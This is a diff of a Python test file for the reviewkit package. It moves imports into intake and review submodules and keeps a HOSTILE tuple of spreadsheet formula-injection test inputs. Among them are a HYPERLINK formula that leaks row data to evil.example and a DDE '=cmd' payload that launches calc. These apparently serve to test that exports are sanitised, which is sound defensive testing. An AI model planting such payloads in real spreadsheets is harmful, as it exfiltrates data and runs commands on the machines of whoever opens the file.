@@ -21,11 +21,12 @@ import openpyxl
 import pytest
 import yaml
 
-from reviewkit.actionplan import ActionPlan, PlanRow, action_plan, read_plan, recommendation_texts, write_plan
-from reviewkit.io import export, import_files
-from reviewkit.store import RatingInput
-from reviewkit.workbook import write_workbook
-from reviewkit.workspace import Case, create_workspace, open_workspace
+from reviewkit.intake.actionplan import ActionPlan, PlanRow, action_plan, read_plan, recommendation_texts, write_plan
+from reviewkit.intake.io import export, import_files
+from reviewkit.intake.workbook import write_workbook
+from reviewkit.review.ratings import RatingInput
+from reviewkit.review.reviewyaml import Case
+from reviewkit.review.workspace import create_workspace, open_workspace
 
 HOSTILE = ("=1+1", '=HYPERLINK("http://evil.example/?leak="&ROW(),"Click for more")', "+cmd", "@SUM(1,2)", "-2+3",
            "#N/A", "=cmd|' /C calc'!Z")
